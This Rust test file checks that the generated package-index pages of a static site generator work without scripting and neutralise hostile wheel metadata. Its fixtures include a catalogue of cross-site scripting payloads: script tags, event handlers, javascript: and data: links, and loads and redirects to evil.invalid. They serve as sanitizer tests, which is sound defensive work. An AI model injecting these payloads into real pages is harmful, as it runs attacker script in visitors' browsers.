//! The pages for people: whole without scripting, better with it, and safe whatever a wheel says.

use std::process::Command;

use sha2::Digest;

use crate::support::{Run, Served, Wheel, Workspace, program, tools};

/// Tries to run a script in every way that Markdown, HTML and the theme might let it.
const HOSTILE: &str = r#"A **harmless** word.

<script>document.title = "owned"</script>
<ScRiPt src="https://evil.invalid/x.js"></sCrIpT>
<img src="https://evil.invalid/x.png" onerror="document.title='owned'">
<img src=x onerror=document.title='owned'>
<iframe src="javascript:parent.document.title='owned'"></iframe>
<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<svg onload="document.title='owned'"><a xlink:href="javascript:document.title='owned'">x</a></svg>
<details open ontoggle="document.title='owned'">x</details>
<object data="javascript:1"></object><embed src="javascript:1"><base href="https://evil.invalid/">
<form action="https://evil.invalid/"><input name=x autofocus onfocus="document.title='owned'"></form>
<style>* { display: none }</style><meta http-equiv="refresh" content="0; url=https://evil.invalid/">
<a href="javascript:document.title='owned'">one</a> <a href=" jAvAsCrIpT:x">two</a>
<a href="data:text/html,<script>1</script>">three</a> <a href="java&#9;script:x">four</a>

[five](javascript:document.title='owned') <javascript:x> ![six](javascript:x)

[seven]: javascript:x "><script>document.title='owned'</script>"

[seven] `</code><script>document.title='owned'</script>`

```"><script>document.title='owned'</script>
</code></pre></div><script>document.title='owned'</script>
```

</div></section></main><script>document.title = "owned"</script>
"#;

/// A line of METADATA that leaves the element and the attribute that it is shown in.
const BREAKOUT: &str = "\"'></title></h1><script>document.title='owned'</script>\
                        <img src=x onerror=\"document.title='owned'\"> <b>{{ site.title }}</b>";

/// Elements that a page of the default theme has no use for.
const FOREIGN: [&str; 10] =
    ["base", "embed", "form", "frame", "iframe", "math", "object", "style", "svg", "template"];

/// A site with an old and a new release of a project, and a project beside it.
fn built() -> Workspace {
    let workspace = Workspace::new();
    for wheel in [
        Wheel::new("demo", "1.0"),
        Wheel::new("demo", "1.1+cu128").header("Summary: Shows things"),
        Wheel::new("Other.Project", "2.0").description("text/markdown", "# Other\n\n*text*\n"),
    ] {
        workspace.wheel(&wheel);
    }
    workspace.build(&[]);
    workspace
}

/// A site of one project whose every text is an attack.
fn built_of_hostile_wheel() -> Workspace {
    let workspace = Workspace::new();
    workspace.wheel(
        &Wheel::new("hostile", "1.0")
            .header(&format!("Summary: {BREAKOUT}"))
            .header(&format!("Author: {BREAKOUT}"))
            .header(&format!("License: {BREAKOUT}"))
            .header("Home-page: javascript:document.title='owned'")
            .header("Project-URL: Docs, javascript:document.title='owned'")
            .header("Project-URL: Data, data:text/html,<script>1</script>")
            .header(&format!("Project-URL: {BREAKOUT}, https://x.example/\"onclick=\"x"))
            .description("text/markdown", HOSTILE),
    );
    let quoted = serde_json::to_string(BREAKOUT).expect("serializes");
    workspace.write(
        "config/site.yml",
        format!(
            "projects:\n  hostile:\n    status: archived\n    status_reason: {quoted}\n    \
             yanked:\n      \"1.0\": {quoted}\n"
        ),
    );
    workspace.build(&[]);
    workspace
}

/// Runs Chromium on a page until it has loaded and nothing is left to do.
fn browse(workspace: &Workspace, url: &str, arguments: &[&str]) -> Run {
    let mut chromium = Command::new("chromium");
    workspace.confine(&mut chromium);
    let profile = format!("--user-data-dir={}", workspace.path("browser").display());
    chromium
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        .args(["--disable-component-update", "--no-first-run", "--disable-dev-shm-usage"])
        // Whatever a page tries, nothing but our server is asked.
        .arg("--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1")
        // What scripts print and browsers complain of.
        .args(["--enable-logging=stderr", "--v=0"])
        // A page has this many milliseconds of its own time to do harm in.
        .args(["--virtual-time-budget=3000", &*profile])
        .args(arguments)
        .arg(url);
    let run = Run::of(&mut chromium);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    run
}

/// What a page has become after its scripts ran.
fn dom(workspace: &Workspace, url: &str) -> Run {
    let run = browse(workspace, url, &["--dump-dom"]);
    assert!(run.stdout.contains("</html>"), "no page at {url}: {}", run.stderr);
    run
}

/// What the page has brought the browser to say, lines of its own left out.
fn console(run: &Run) -> Vec<&str> {
    run.stderr.lines().filter(|line| line.contains(":CONSOLE")).collect()
}

struct Element<'h> {
    name: &'h str,
    attributes: Vec<(&'h str, &'h str)>,
}

impl Element<'_> {
    fn attribute(&self, name: &str) -> Option<&str> {
        self.attributes.iter().find(|(key, _)| *key == name).map(|(_, value)| *value)
    }

    /// Whether something of it could run: a handler, or a link that is a script.
    fn is_armed(&self) -> bool {
        self.attributes.iter().any(|(key, value)| {
            // Browsers pass over blanks and controls in and before a scheme.
            let link: String = value.chars().filter(|char| *char > ' ').collect();
            let link = link.to_ascii_lowercase();
            key.starts_with("on")
                || *key == "srcdoc"
                || link.starts_with("javascript:")
                || (link.starts_with("data:") && *key == "href")
        })
    }
}

/// The elements of a page that a browser has written: every value is in double quotes, and
/// nothing but a tag or a comment begins with `<` outside of them.
fn elements(html: &str) -> Vec<Element<'_>> {
    let mut elements = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let end = after.find([' ', '>']).expect("a tag ends");
        let (name, mut tag) = after.split_at(end);
        let mut attributes = Vec::new();
        while let Some(attribute) = tag.strip_prefix(' ') {
            let (key, value) = attribute.split_once("=\"").expect("an attribute has a value");
            let (value, after) = value.split_once('"').expect("a value ends");
            attributes.push((key, value));
            tag = after;
        }
        rest = tag;
        if name.starts_with(|char: char| char.is_ascii_alphabetic()) {
            elements.push(Element { name, attributes });
        } else {
            // Closing tags have nothing to look at; in a doctype and in comments it ends at `>` too.
            rest = after.split_once('>').map_or("", |(_, rest)| rest);
        }
    }
    elements
}

fn count(html: &str, text: &str) -> usize {
    html.matches(text).count()
}

/// Where a page of the site is served.
fn page(served: &Served, path: &str) -> String {
    format!("{}{path}", served.url)
}

#[test]
fn without_scripting_the_pages_hold_every_project_file_and_digest() {
    let workspace = built();
    let home = workspace.read("site/index.html");
    for project in ["demo", "Other.Project"] {
        let path = project.to_lowercase().replace('.', "-");
        assert!(home.contains(&format!("<a href=\"packages/{path}/\">{project}</a>")), "{home}");
    }
    assert!(home.contains("Shows things"));
    let files = program::tree(&workspace.path("wheels"));
    assert_eq!(files.len(), 3);
    for (filename, bytes) in files {
        let project = if filename.starts_with("demo") { "demo" } else { "other-project" };
        let html = workspace.read(&format!("site/packages/{project}/index.html"));
        let sha256 = hex::encode(sha2::Sha256::digest(&bytes));
        assert!(html.contains(&format!(">{filename}</a>")), "{filename} in {html}");
        assert!(html.contains(&format!(">{sha256}</code>")), "{sha256} in {html}");
        let href = format!("../../files/{project}/{}/", &sha256[..16]);
        let link = format!("<a href=\"{href}{}\"", filename.replace('+', "%2B"));
        assert!(html.contains(&link), "{link} in {html}");
        // The commands are there too, and what stands in them is explained.
        assert!(html.contains("--extra-index-url INDEX_URL"), "{html}");
        assert!(html.contains("Replace <code>INDEX_URL</code> by"), "{html}");
    }
    let other = workspace.read("site/packages/other-project/index.html");
    assert!(other.contains("<h1>Other</h1>") && other.contains("<em>text</em>"), "{other}");
}

#[test]
fn pages_load_nothing_from_elsewhere() {
    let workspace = built();
    let files = program::tree(&workspace.site());
    let pages = files.iter().filter(|(path, _)| path.ends_with(".html"));
    for (path, bytes) in pages.filter(|(path, _)| !path.contains("simple/")) {
        let html = String::from_utf8_lossy(bytes);
        let loads =
            |tag: &&str| ["img ", "link ", "script "].iter().any(|name| tag.starts_with(name));
        let tags: Vec<&str> = html.split('<').filter(loads).collect();
        assert!(tags.len() >= 4, "{path}: {tags:?}");
        for tag in tags {
            let (tag, _) = tag.split_once('>').expect("ends");
            assert!(!tag.contains("//"), "{path} loads {tag}");
        }
        let scripts = count(&html, "<script src=\"");
        assert!((1..=4).contains(&scripts), "{path} has the scripts of the theme only");
        assert_eq!(count(&html, "<script"), scripts, "{path}");
        assert!(html.contains("http-equiv=\"Content-Security-Policy\""), "{path}");
    }
}

/// The commands of the finder's answer.
const IN_FINDER: usize = 4;

#[test]
fn scripting_fills_in_the_index_url_and_adds_copy_buttons() {
    if !tools::has_program("chromium") {
        return;
    }
    let workspace = built();
    let served = workspace.serve(&[]);
    let index = served.index();

    let home = dom(&workspace, &page(&served, "")).stdout;
    assert!(home.contains(&format!("data-index-url=\"\">{index}</code>")), "{home}");
    assert!(home.contains(&format!("pip install --extra-index-url {index} PROJECT")), "{home}");
    let buttons = |html: &str| {
        let copies = |element: &Element<'_>| element.attribute("class") == Some("copy");
        elements(html).iter().filter(|element| element.name == "button" && copies(element)).count()
    };
    assert_eq!(buttons(&home), 1 + IN_FINDER, "{home}");

    let index = format!("{}cu128/simple/", served.url);
    let demo = dom(&workspace, &page(&served, "packages/demo/")).stdout;
    for text in [
        format!("pip install \"demo==1.1+cu128\" --only-binary demo --extra-index-url {index}<"),
        format!("uv pip install \"demo==1.1+cu128\" --only-binary demo --index {index}<"),
        format!("url = \"{index}\"\nexplicit = true\n"),
        format!("url = \"{index}\"\npriority = \"explicit\"\n"),
    ] {
        assert_eq!(count(&demo, &text), 1, "{text} in {demo}");
    }
    assert_eq!(buttons(&demo), 6 + IN_FINDER, "four commands and two digests: {demo}");
}

#[test]
fn a_site_that_knows_its_url_shows_that_and_not_where_it_is_served() {
    if !tools::has_program("chromium") {
        return;
    }
    let workspace = Workspace::new();
    workspace.wheel(&Wheel::new("demo", "1.0"));
    workspace.build(&["--site-url", "https://wheels.example/index"]);
    let served = workspace.serve(&[]);
    for path in ["", "packages/demo/"] {
        let html = dom(&workspace, &page(&served, path)).stdout;
        assert!(html.contains("--extra-index-url https://wheels.example/index/simple/"), "{html}");
        assert!(!html.contains(&served.index()) && !html.contains("INDEX_URL"), "{html}");
    }
}

#[test]
fn a_hostile_wheel_runs_nothing_and_leaves_nothing_that_could_run() {
    if !tools::has_program("chromium") {
        return;
    }
    let workspace = built_of_hostile_wheel();
    // The same text as a page of its own, but that it stays: what trusting it would do.
    let raw = format!("<!doctype html>\n{}", HOSTILE.replace("\"refresh\"", "\"x\""));
    workspace.write("site/raw.html", raw);
    let served = workspace.serve(&[]);
    let raw = dom(&workspace, &page(&served, "raw.html")).stdout;
    assert!(raw.contains("<title>owned</title>"), "the attack works where nothing stops it: {raw}");
    assert!(elements(&raw).iter().any(Element::is_armed), "what could run is seen: {raw}");

    for (path, title) in
        [("", "Python packages"), ("packages/hostile/", "hostile · Python packages")]
    {
        let run = dom(&workspace, &page(&served, path));
        let html = &run.stdout;
        assert!(html.contains(&format!("<title>{title}</title>")), "{html}");
        let elements = elements(html);
        let scripts: Vec<_> = elements.iter().filter(|element| element.name == "script").collect();
        let sources = scripts.iter().map(|script| script.attribute("src").expect("is a file"));
        let stems = sources.filter_map(|source| source.split(['/', '.']).rev().nth(2));
        assert_eq!(stems.collect::<Vec<_>>(), ["site", "gpus", "fit", "finder"], "{html}");
        for element in &elements {
            assert!(!element.is_armed(), "{} {:?}", element.name, element.attributes);
            let is_finder = element.attribute("id") == Some("finder-form");
            assert!(is_finder || !FOREIGN.contains(&element.name), "{} in {html}", element.name);
            let policy = element.attribute("http-equiv");
            assert!(matches!(policy, None | Some("Content-Security-Policy")), "{policy:?}");
        }
        // Nothing was left to the policy of the page to stop.
        assert!(!run.stderr.contains("Content Security Policy"), "{}", run.stderr);
        assert!(!run.stderr.contains("Uncaught"), "{}", run.stderr);
    }
    let html = dom(&workspace, &page(&served, "packages/hostile/")).stdout;
    assert!(html.contains("<strong>harmless</strong>"), "the description is shown: {html}");
    assert!(
        html.contains("&lt;b&gt;{{ site.title }}&lt;/b&gt;"),
        "texts are shown as text: {html}"
    );
}

#[test]
fn pages_show_on_small_and_large_screens_without_a_complaint() {
    if !tools::has_program("chromium") {
        return;
    }
    let workspace = built();
    // Proves that complaints would be seen.
    workspace.write(
        "site/raw.html",
        "<!doctype html><meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'self'\">\
         <script>1</script>",
    );
    let served = workspace.serve(&[]);
    let raw = dom(&workspace, &page(&served, "raw.html"));
    assert!(
        console(&raw).iter().any(|line| line.contains("Content Security Policy")),
        "{}",
        raw.stderr
    );

    let picture = workspace.path("page.png");
    let screenshot = format!("--screenshot={}", picture.display());
    for (width, height) in [(390u32, 844u32), (1280, 900)] {
        for path in ["", "packages/demo/", "nothing-here/"] {
            let size = format!("--window-size={width},{height}");
            let run = browse(&workspace, &page(&served, path), &[&screenshot, &size]);
            // That `nothing-here/` is not there is for the browser to say.
            let complaints: Vec<&str> = console(&run)
                .into_iter()
                .filter(|line| !line.contains("status of 404") || path != "nothing-here/")
                .collect();
            assert_eq!(complaints, Vec::<&str>::new(), "{path}");
            let png = std::fs::read(&picture).expect("reads");
            assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"), "{path}");
            let number = |at| u32::from_be_bytes(*png[at..].first_chunk().expect("is whole"));
            assert_eq!((number(16), number(20)), (width, height), "{path}");
            // An empty page of either size has less than 6 kB.
            assert!(png.len() > 8_000, "{path} has {} bytes", png.len());
            std::fs::remove_file(&picture).expect("removes");
        }
    }
}
